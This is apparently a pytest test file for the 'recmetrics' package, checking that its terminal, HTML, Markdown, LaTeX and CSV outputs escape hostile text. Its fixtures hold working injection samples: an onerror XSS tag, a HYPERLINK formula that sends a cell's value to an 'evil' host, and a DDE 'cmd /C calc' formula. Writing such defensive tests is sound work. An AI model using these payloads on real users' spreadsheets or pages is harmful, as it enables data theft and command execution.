"""One way out (recmetrics._present): hostile text through every output, escaped for each
target; numbers formatted one way everywhere; rm.show shows every table the package returns."""
from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import recmetrics as rm
from recmetrics import _present as present
from recmetrics import cli

DATA = rm.DATA_DIR

#: Text as a hostile or careless user writes it: markup, a formula, ANSI colours, a carriage
#: return that rewrites the line, Markdown table breaks, LaTeX specials, a bidi override.
SCRIPT = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
ANSI = "\x1b[31mred\x1b[0m"
CR = "ok\rPWNED"
PIPE = "a|b\nc"
LATEX = "50% $x_1$ {#} ~^\\"
BIDI = "abc\u202edef"
HOSTILE = [SCRIPT, FORMULA, ANSI, CR, PIPE, LATEX, BIDI, "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
           "+1+1", "\tx"]


def assert_terminal_safe(text: str) -> None:
    """No character that moves the cursor, recolours, or reorders the line reaches it."""
    bad = [c for c in text if c not in "\n" and (ord(c) < 32 or 0x7f <= ord(c) < 0xa0
                                                 or c in "\u202a\u202b\u202c\u202d\u202e"
                                                 "\u2066\u2067\u2068\u2069\u2028\u2029")]
    assert bad == [], f"raw control characters {bad!r} in {text!r}"


def assert_html_safe(text: str) -> None:
    assert "<img" not in text and "onerror=alert(1)>" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text


def assert_markdown_table_safe(text: str, n_columns: int) -> None:
    for line in text.splitlines():
        if line.startswith("|"):   # a row: exactly n_columns cells, whatever the text held
            cells = re.split(r"(?<!\\)\|", line)[1:-1]
            assert len(cells) == n_columns, line


def sliced_table() -> pd.DataFrame:
    pred = pd.DataFrame({"user": np.repeat(np.arange(len(HOSTILE) * 3), 2),
                         "item": np.tile(["a", "b"], len(HOSTILE) * 3),
                         "score": np.tile([0.9, 0.1], len(HOSTILE) * 3),
                         "label": np.tile([1, 0], len(HOSTILE) * 3)})
    pred.loc[pred.user % 3 == 0, "label"] = np.tile([0, 1], len(HOSTILE))
    pred["segment"] = [HOSTILE[u % len(HOSTILE)] for u in pred.user]
    return rm.evaluate(pred, k=1, metrics=["precision", "mrr"], by="segment", min_slice_size=1)


# --------------------------------------------------------------------------- escaping rules

@pytest.mark.parametrize("text, shown", [
    (ANSI, "\\x1b[31mred\\x1b[0m"), (CR, "ok\\rPWNED"), ("a\tb", "a\\tb"), (BIDI, "abc\\u202edef"),
    ("中文 café", "中文 café"), ("\x9b", "\\x9b"),
])
def test_terminal_shows_control_characters_as_escapes(text, shown):
    assert present.terminal(text) == shown


@pytest.mark.parametrize("cell, written", [
    ("=1+2", "'=1+2"), ("+1", "+1"), ("-1.5", "-1.5"), ("-1e3", "-1e3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("+x", "'+x"), ("-", "'-"), ("a=b", "a=b"), ("", ""), (-1.5, -1.5), (None, None),
])
def test_csv_cells_follow_owasp_and_leave_numbers_alone(cell, written):
    """OWASP: a leading =, +, -, @, tab or CR gets a ' before it; text that is wholly a
    decimal number (a -1.5 read as text) cannot be a formula and is left as written."""
    assert present.csv_cell(cell) == written


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1))
def test_no_escaped_form_holds_a_raw_break_or_control(text):
    assert_terminal_safe(present.terminal(text))
    assert "\n" not in present.markdown(text) and "\n" not in present.latex(text)
    assert re.search(r"(?<!\\)\|", present.markdown(text)) is None
    assert "<" not in present.html(text) and ">" not in present.html(text)
    cell = present.csv_cell(text)
    assert not cell.startswith(present.FORMULA_START) or re.fullmatch(
        r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


# --------------------------------------------------------------------------- every output

def test_hostile_slice_values_through_rm_show_in_every_format():
    table = sliced_table()
    shown = rm.show(table)
    text = shown.to_string()
    assert_terminal_safe(text)
    assert "\\x1b[31mred\\x1b[0m" in text and "ok\\rPWNED" in text
    assert_html_safe(shown.to_html())
    assert_markdown_table_safe(shown.to_markdown(), shown.cells.shape[1])
    latex = shown.to_latex()
    assert r"50\% \$x\_1\$ \{\#\} \textasciitilde{}\textasciicircum{}\textbackslash{}" in latex
    assert "\n".join(line for line in latex.splitlines()).count(r" \\") == len(table) + 1


def test_hostile_text_in_csv_is_neutralised_unless_raw(tmp_path):
    table = sliced_table()
    table.insert(0, "=cmd", -0.5)               # a hostile column name; a negative number
    text = rm.to_csv(table)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "'=cmd"
    segments = {row[1] for row in rows[1:]}
    assert "'" + FORMULA in segments and "'@SUM(1)" in segments and "'\tx" in segments
    assert not any(s.startswith(present.FORMULA_START) for s in segments)
    assert {row[0] for row in rows[1:]} == {"-0.5"}            # numbers stay numbers
    assert pd.read_csv(io.StringIO(text))["'=cmd"].eq(-0.5).all()
    raw = list(csv.reader(io.StringIO(rm.to_csv(table, raw=True))))
    assert raw[0][0] == "=cmd" and FORMULA in {row[1] for row in raw[1:]}
    rm.to_csv(table, tmp_path / "t.tsv", sep="\t")
    assert (tmp_path / "t.tsv").read_bytes().decode() == rm.to_csv(table, sep="\t")


def test_hostile_model_names_through_the_results_table():
    values = pd.DataFrame({"model": [SCRIPT, PIPE, LATEX], "metric": ["ndcg"] * 3, "k": [10] * 3,
                           "value": [0.1, 0.2, 0.3]})
    table = rm.results_table(values)
    assert_html_safe(table.to_html())
    assert_markdown_table_safe(table.to_markdown(), 2)
    assert r"50\% \$x\_1\$" in table.to_latex() and "a|b\nc" not in table.to_latex()


def _hostile_inputs(tmp_path):
    pred = pd.read_csv(DATA / "sample_model_a.csv")
    truth = pd.read_csv(DATA / "sample_truth.csv")
    users = pd.DataFrame({"user": pd.unique(pred.user)})
    users["segment"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(users))]
    users.to_csv(tmp_path / "users.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
    scores = tmp_path / f"{SCRIPT}.csv"
    pred.to_csv(scores, index=False)
    truth.to_csv(tmp_path / "truth.csv", index=False)
    return scores


def test_hostile_text_through_the_command_line_outputs(tmp_path, capsys):
    """Bug (issue 35): slice values starting with = + - @ went raw into -o out.csv (a
    spreadsheet runs them); ANSI escapes and carriage returns reached the terminal raw."""
    scores = _hostile_inputs(tmp_path)
    common = [scores, "--truth", tmp_path / "truth.csv", "--by", "segment", "--users",
              tmp_path / "users.csv", "--min-slice-size", "1", "--metrics", "ndcg", "-q"]
    assert cli.main([str(a) for a in ["evaluate", *common]]) == 0
    out, _ = capsys.readouterr()
    assert_terminal_safe(out)
    assert "\\x1b[31mred\\x1b[0m" in out and SCRIPT in out        # shown, as written
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        assert cli.main([str(a) for a in ["evaluate", *common, "-o", tmp_path / f"o.{fmt}"]]) == 0
        rows = list(csv.reader(open(tmp_path / f"o.{fmt}", newline=""), delimiter=sep))
        cells = [c for row in rows for c in row]
        assert not any(c.startswith(present.FORMULA_START) and not re.fullmatch(
            r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c) for c in cells), cells
        assert "'" + FORMULA in cells
    assert cli.main([str(a) for a in ["evaluate", *common, "-o", tmp_path / "raw.csv",
                                      "--raw-csv"]]) == 0
    assert FORMULA in pd.read_csv(tmp_path / "raw.csv", keep_default_na=False).segment.tolist()


@pytest.mark.parametrize("fmt", ["table", "markdown", "latex", "html"])
def test_hostile_model_file_names_through_compare(fmt, tmp_path, capsys):
    b = tmp_path / f"{PIPE.replace(chr(10), ' ')}{ANSI}.csv"
    pd.read_csv(DATA / "sample_model_b.csv").to_csv(b, index=False)
    a = tmp_path / f"{SCRIPT}.csv"
    pd.read_csv(DATA / "sample_model_a.csv").to_csv(a, index=False)
    code = cli.main([str(x) for x in ["compare", a, b, "--truth", DATA / "sample_truth.csv",
                                      "--metrics", "ndcg", "--n-resamples", "200", "-q",
                                      "--format", fmt]])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert_terminal_safe(out.replace("\n", ""))
    if fmt == "html":
        assert_html_safe(out)
    if fmt == "markdown":
        assert_markdown_table_safe(out, 3)


def test_error_lines_show_control_characters_as_escapes(tmp_path, capsys):
    code = cli.main(["evaluate", str(tmp_path / f"{ANSI}.csv")])
    _, err = capsys.readouterr()
    assert code == 2 and len(err.splitlines()) == 1
    assert_terminal_safe(err.rstrip("\n"))
    assert "\\x1b[31mred" in err


# --------------------------------------------------------------------------- rm.show of every table

def test_rm_show_displays_every_table_the_package_returns():
    """Bug (issue 35): rm.show(rm.disparity(t)) raised ("table has neither the columns
    'metric' and 'value' ..."); every table the package returns is now shown."""
    pred = pd.read_csv(DATA / "sample_model_a.csv").head(3000)
    truth = pd.read_csv(DATA / "sample_truth.csv").merge(pred[["user", "item"]])
    pred["group"] = np.where(pd.factorize(pred.user)[0] % 2 == 0, "even", "odd")
    sliced = rm.evaluate(pred, truth, k=5, by="group", ci=0.9, n_resamples=100)
    history = truth[truth.label > 0][["user", "item"]]
    tables = {
        "evaluate": rm.evaluate(pred, truth, k=5),
        "sliced": sliced,
        "disparity": rm.disparity(sliced),
        "per user": rm.evaluate_per_user(pred, truth, k=5),
        "compare": rm.compare(pred, pred.assign(score=-pred.score), truth, k=5, n_resamples=100),
        "beyond": rm.beyond_accuracy(pred, k=5, history=history),
        "most popular": rm.most_popular(pd.unique(pred.user)[:3], history, k=2),
    }
    for name, table in tables.items():
        shown = rm.show(table)
        assert len(shown.cells) == len(table), name
        text = shown.to_string()
        assert text.splitlines()[0].split()[0], name
        assert "<table" in shown.to_html(), name
    shown = rm.show(tables["disparity"]).cells
    assert list(shown.columns[:2]) == ["metric", "largest"]
    assert "precision@5" in shown["metric"].tolist()            # metric and k in one label
    per_user = rm.show(tables["per user"]).cells
    assert per_user["user"].tolist() == [str(u) for u in tables["per user"]["user"]]  # no "1,234"


def test_numbers_are_formatted_one_way_in_the_command_line_and_rm_show():
    """The command line's table and rm.show read the same helpers: a value, an interval and a
    p-value come out as the same text."""
    table = rm.evaluate(pd.read_csv(DATA / "sample_model_a.csv"),
                        pd.read_csv(DATA / "sample_truth.csv"), k=10, metrics=["ndcg"],
                        ci=0.95, n_resamples=100)
    text = cli.format_evaluation(table, {"pred": {"path": "a.csv", "rows": 1, "users": 1}},
                                 "table", 0.95, 100, 0)
    row = table.iloc[0]
    assert present.number(row.value) in text
    assert present.interval(row.ci_low, row.ci_high) in text
    assert f"{present.number(row.value)} {present.interval(row.ci_low, row.ci_high)}" in \
        rm.show(table).to_string()


# --------------------------------------------------------------------------- what the footnotes say

def test_compare_by_footnotes_say_what_was_computed(tmp_path, capsys):
    """Bug (issue 37): compare --by's footnotes contradicted each other: Holm across the
    slices, then "after no correction over all N rows", and a 'p adjusted' column that the
    sliced table does not have. They now name the column shown and the one correction run."""
    users = pd.DataFrame({"user": pd.unique(pd.read_csv(DATA / "sample_model_a.csv").user)})
    users["region"] = np.where(np.arange(len(users)) % 3 == 0, "north", "south")
    users.to_csv(tmp_path / "users.csv", index=False)
    argv = ["compare", DATA / "sample_model_a.csv", DATA / "sample_model_b.csv", "--truth",
            DATA / "sample_truth.csv", "--by", "region", "--users", tmp_path / "users.csv",
            "--metrics", "ndcg", "--n-resamples", "200", "-q"]
    assert cli.main([str(a) for a in argv]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "p (Holm, slices)" in out
    assert "'p (Holm, slices)' is the randomization p-value (DeLong's for AUC) adjusted by " \
           "Holm's step-down across the slices of each metric" in out
    assert "'p adjusted'" not in out and "no correction" not in out
    assert "p (Holm)'" not in out
    code = cli.main([str(a) for a in argv + ["--correction", "bonferroni"]])
    err = capsys.readouterr().err
    assert code == 2 and "--correction bonferroni: with --by the p-values are adjusted by " \
                          "Holm's step-down" in err


def test_compare_without_by_still_names_its_correction(capsys):
    argv = ["compare", DATA / "sample_model_a.csv", DATA / "sample_model_b.csv", "--truth",
            DATA / "sample_truth.csv", "--metrics", "ndcg", "--n-resamples", "200", "-q",
            "--correction", "bonferroni"]
    assert cli.main([str(a) for a in argv]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "'p adjusted' is the randomization p-value (DeLong's for AUC) after Bonferroni " \
           "correction over all" in out
